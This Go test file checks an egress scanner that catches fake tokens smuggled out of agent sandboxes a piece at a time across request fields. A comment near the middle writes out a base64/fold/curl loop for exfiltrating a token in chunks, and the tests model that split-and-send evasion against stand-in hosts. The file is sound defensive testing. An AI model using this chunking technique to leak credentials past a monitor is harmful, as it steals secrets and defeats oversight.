package scanner

import (
	"context"
	"encoding/base64"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"
)

// A token sent a piece a request is found in the request that completes
// it, in each field the trail follows; another sandbox's requests, or the
// same sandbox's to another host, do not join.
func TestRequestTrailHidesNoToken(t *testing.T) {
	for _, kind := range []string{"github-pat", "stripe-access-token", "aws-access-token"} {
		tok := generatedFake(t, kind)
		pieces := []string{tok[:3], tok[3:14], tok[14:]}
		for name, req := range map[string]func(i int, p string) *Request{
			"query": func(i int, p string) *Request {
				return &Request{URL: mustURL(t, fmt.Sprintf("https://c.test/up?t=%d&d=%s", 1700000000+i, url.QueryEscape(p)))}
			},
			"path": func(i int, p string) *Request { return &Request{URL: mustURL(t, "https://c.test/collect/"+p)} },
			"header": func(i int, p string) *Request {
				return &Request{URL: mustURL(t, "https://c.test/"), Header: http.Header{"X-D": {p}, "X-Request-Id": {fmt.Sprint(i)}}}
			},
			"cookie": func(i int, p string) *Request {
				return &Request{URL: mustURL(t, "https://c.test/"), Header: http.Header{"Cookie": {"d=" + p + "; n=" + fmt.Sprint(i)}}}
			},
			"form": func(i int, p string) *Request {
				return &Request{URL: mustURL(t, "https://c.test/"), Header: http.Header{"Content-Type": {"application/x-www-form-urlencoded"}},
					Body: strings.NewReader("n=" + fmt.Sprint(i) + "&d=" + url.QueryEscape(p))}
			},
			"json": func(i int, p string) *Request {
				return &Request{URL: mustURL(t, "https://c.test/"), Header: http.Header{"Content-Type": {"application/json"}},
					Body: strings.NewReader(fmt.Sprintf(`{"n":%d,"msg":{"text":"note %d","attachments":[{"id":"%s"}]}}`, i, i, p))}
			},
			"body": func(i int, p string) *Request {
				return &Request{URL: mustURL(t, "https://c.test/"), Header: http.Header{"Content-Type": {"text/plain"}}, Body: strings.NewReader(p + "\n")}
			},
		} {
			s := testScanner(t)
			scan := func(source, host string, i int, p string) *Result {
				r := req(i, p)
				r.Source, r.Host = source, host
				res, err := s.Scan(context.Background(), r)
				if err != nil {
					t.Fatal(err)
				}
				return res
			}
			for i, p := range pieces {
				res := scan("run-1", "c.test", i, p)
				if i < len(pieces)-1 {
					if res.Verdict != Pass {
						t.Fatalf("%s %s: piece %d refused:%s", kind, name, i, dump(res.Findings))
					}
					// Elsewhere, one piece each: another sandbox, another host.
					if i == 0 {
						scan("run-2", "c.test", i, p)
					} else {
						scan("run-1", "d.test", i, p)
					}
					continue
				}
				found := false
				for _, f := range res.Findings {
					found = found || strings.Contains(string(f.secret), tok) && f.Decoding == encJoinedRequests && strings.HasPrefix(f.Where, "requests:")
					if strings.Contains(f.Snippet+f.Where, pieces[1]) {
						t.Errorf("%s %s: a piece in clear: %q %q", kind, name, f.Where, f.Snippet)
					}
				}
				if res.Verdict != Block || !found {
					t.Errorf("%s %s: the last piece: %v:%s", kind, name, res.Verdict, dump(res.Findings))
				}
				for _, other := range [][2]string{{"run-2", "c.test"}, {"run-1", "d.test"}} {
					if res := scan(other[0], other[1], i, p); joinedRequests(res) {
						t.Errorf("%s %s: %s to %s joined another's pieces:%s", kind, name, other[0], other[1], dump(res.Findings))
					}
				}
			}
		}
	}
}

// A token encoded and then sent a piece a request (`base64 | fold -w 20 |
// while read p; do curl …?d=$p; done`) is found when its pieces join into a
// run that decodes to it.
func TestRequestTrailEncodedPieces(t *testing.T) {
	tok := generatedFake(t, "github-pat")
	v := base64.StdEncoding.EncodeToString([]byte("token=" + tok))
	for name, req := range map[string]func(i int, p string) *Request{
		"query": func(i int, p string) *Request {
			return &Request{URL: mustURL(t, fmt.Sprintf("https://c.test/up?t=%d&d=%s", 1700000000+i, url.QueryEscape(p)))}
		},
		"header": func(i int, p string) *Request {
			return &Request{URL: mustURL(t, "https://c.test/"), Header: http.Header{"X-D": {p}, "X-Request-Id": {fmt.Sprint(i)}}}
		},
	} {
		s := testScanner(t)
		refused := -1
		for i := 0; i < len(v) && refused < 0; i += 20 {
			r := req(i, v[i:min(len(v), i+20)])
			r.Source, r.Host = "run-1", "c.test"
			res, err := s.Scan(context.Background(), r)
			if err != nil {
				t.Fatal(err)
			}
			if res.Verdict == Pass {
				continue
			}
			refused = i
			// Refused once the pieces hold enough of the token to know it.
			found := false
			for _, f := range res.Findings {
				found = found || f.Decoding == encJoinedRequests+" > base64" && strings.HasPrefix(f.Where, "requests:")
			}
			if res.Verdict != Block || !found {
				t.Errorf("%s: piece %d: %v:%s", name, i/20, res.Verdict, dump(res.Findings))
			}
		}
		if refused <= 0 {
			t.Errorf("%s: refused at byte %d of the encoding, want a later piece", name, refused)
		}
	}
}

// A refused request's pieces are forgotten: they never left.
func TestRequestTrailForgetsRefused(t *testing.T) {
	s := testScanner(t)
	tok := generatedFake(t, "github-pat")
	scan := func(q string) *Result {
		res, err := s.Scan(context.Background(), &Request{Source: "run-1", Host: "c.test", URL: mustURL(t, "https://c.test/?"+q)})
		if err != nil {
			t.Fatal(err)
		}
		return res
	}
	if res := scan("d=" + tok[:3]); res.Verdict != Pass {
		t.Fatalf("the first piece refused:%s", dump(res.Findings))
	}
	// Refused for a whole token beside it: its piece of d is taken back.
	if res := scan("d=" + tok[3:14] + "&x=" + MustFake(t, "gitlab-pat")); res.Verdict != Block {
		t.Fatalf("a whole token forwarded:%s", dump(res.Findings))
	}
	if res := scan("d=" + tok[14:]); joinedRequests(res) {
		t.Errorf("joined with a refused piece:%s", dump(res.Findings))
	}
	// Without the refusal the same three pieces are joined.
	for i, p := range []string{tok[:3], tok[3:14], tok[14:]} {
		res, err := s.Scan(context.Background(), &Request{Source: "run-2", Host: "c.test", URL: mustURL(t, "https://c.test/?d="+p)})
		if err != nil {
			t.Fatal(err)
		}
		if got := joinedRequests(res); got != (i == 2) {
			t.Errorf("piece %d: joined %v:%s", i, got, dump(res.Findings))
		}
	}
}

func joinedRequests(res *Result) bool {
	for _, f := range res.Findings {
		if f.Decoding == encJoinedRequests {
			return true
		}
	}
	return false
}

// What an agent's tools send over and over joins into nothing found: page
// cursors, timestamps, request ids, idempotency keys, an SDK's bound key.
func TestRequestTrailOfOrdinaryTraffic(t *testing.T) {
	s := testScanner(t)
	key := MustFake(t, "anthropic-api-key")
	for i := range 300 {
		cursor := base64.URLEncoding.EncodeToString([]byte(fmt.Sprintf(`{"after":"%s","n":%d}`, randomString(base62, 12), i)))
		reqs := []*Request{
			{Host: "api.github.test", URL: mustURL(t, fmt.Sprintf("https://api.github.test/repos/acme/w/issues?per_page=100&page=%d&cursor=%s&since=%d", i, cursor, 1700000000+i*37)),
				Header: http.Header{"X-Request-Id": {randomString("0123456789abcdef", 32)}, "If-None-Match": {`W/"` + randomString("0123456789abcdef", 40) + `"`}}},
			{Host: "api.anthropic.com", URL: mustURL(t, "https://api.anthropic.com/v1/messages"),
				Header: http.Header{"X-Api-Key": {key}, "Anthropic-Version": {"2023-06-01"}, "Content-Type": {"application/json"},
					"Idempotency-Key": {"stainless-node-retry-" + randomString("0123456789abcdef", 32)}, "X-Stainless-Retry-Count": {fmt.Sprint(i % 3)}},
				Body: strings.NewReader(`{"model":"m","messages":[{"role":"user","content":"turn ` + fmt.Sprint(i) + `"}]}`)},
			{Host: "registry.test", URL: mustURL(t, "https://registry.test/"+randomString(base62, 8)+"/-/"+randomString(base62, 8)+"-1."+fmt.Sprint(i)+".0.tgz")},
		}
		for _, r := range reqs {
			r.Source = "run-1"
			res, err := s.Scan(context.Background(), r)
			if err != nil {
				t.Fatal(err)
			}
			// (A cursor's entropy is an alert of its own.)
			if res.Verdict == Block || joinedRequests(res) {
				t.Fatalf("request %d to %s: %v:%s", i, r.Host, res.Verdict, dump(res.Findings))
			}
		}
	}
}

// Sandboxes that send at once share nothing but the trail's index (go
// test -race), and the trail joins after entries were evicted.
func TestRequestTrailConcurrent(t *testing.T) {
	s := testScanner(t)
	s.TrailEntries = 4 // entries come and go while others use theirs
	tok := generatedFake(t, "github-pat")
	var wg sync.WaitGroup
	for g := range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range 40 {
				r := &Request{Source: fmt.Sprint("run-", g), Host: fmt.Sprint("h", i%3, ".test"),
					URL: mustURL(t, fmt.Sprintf("https://h.test/x?n=%d&id=%s", i, randomString(base62, 10)))}
				if _, err := s.Scan(context.Background(), r); err != nil {
					t.Error(err)
					return
				}
			}
		}()
	}
	wg.Wait()
	// The trail still joins after entries were evicted and made again.
	for i, p := range []string{tok[:3], tok[3:14], tok[14:]} {
		res, err := s.Scan(context.Background(), &Request{Source: "run-x", Host: "c.test", URL: mustURL(t, "https://c.test/?d="+p+"&i="+fmt.Sprint(i))})
		if err != nil {
			t.Fatal(err)
		}
		if got := joinedRequests(res); got != (i == 2) {
			t.Errorf("piece %d: joined %v:%s", i, got, dump(res.Findings))
		}
	}
}

// What one sandbox can make the trail hold is bounded: entries by
// TrailEntries, each by trailBytes, however many fields and requests.
func TestRequestTrailBounded(t *testing.T) {
	s := testScanner(t)
	s.TrailEntries = 8
	for i := range 200 {
		var q strings.Builder
		for k := range 100 {
			fmt.Fprintf(&q, "f%d_%d=%s&", i, k, randomString(base62, 100))
		}
		r := &Request{Source: fmt.Sprint("run-", i%20), Host: "c.test", URL: &url.URL{Path: "/", RawQuery: q.String()}}
		if _, err := s.Scan(context.Background(), r); err != nil {
			t.Fatal(err)
		}
	}
	tr := s.trail
	tr.mu.Lock()
	defer tr.mu.Unlock()
	if len(tr.entries) > 8 || tr.lru.Len() > 8 {
		t.Fatalf("%d entries (%d in the list), want at most 8", len(tr.entries), tr.lru.Len())
	}
	for _, el := range tr.entries {
		e := el.Value.(*trailEntry)
		held := 0
		for f, ps := range e.fields {
			held += len(f.name)
			for _, p := range ps {
				held += len(p)
			}
		}
		if held != e.bytes || held > trailBytes {
			t.Errorf("an entry holds %d bytes (counted %d), want at most %d", held, e.bytes, trailBytes)
		}
	}
}
